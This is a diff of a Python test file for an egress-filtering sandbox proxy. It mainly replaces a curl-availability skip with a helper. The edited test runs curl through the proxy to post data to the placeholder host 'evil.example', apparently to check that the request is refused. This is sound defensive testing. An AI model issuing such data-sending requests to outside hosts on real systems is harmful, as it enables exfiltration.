@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import asyncio
-import shutil
 import socket
 from collections.abc import AsyncGenerator, Sequence
 
@@ -15,6 +14,7 @@ from hypothesis import strategies as st
 from interlock.executors.egress import Egress, EgressPolicy, Refusal, Seen, violation
 from interlock.testing import FakeClock
 from tests.egress.world import OTHER, PUBLIC, SOON, Upstream, both, policy, world
+from tests.needs import need
 
 REST = "the sandbox that leaves no other way out, and the audit entry"
 
@@ -185,8 +185,8 @@ async def test_a_real_client_reads_and_writes_over_one_connection() -> None:
         assert there.web.heard[0].startswith(b"GET /?q=1 HTTP/1.1\r\nhost: api.example.com\r\n")
 
 
-@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not here")
 async def test_curl_is_told_why() -> None:
+    need("curl", "curl")
     async with world() as there:
         curl = await asyncio.create_subprocess_exec(
             "curl", "-sS", "-x", there.proxy, "http://api.example.com/", "http://evil.example/", "-d", "x",
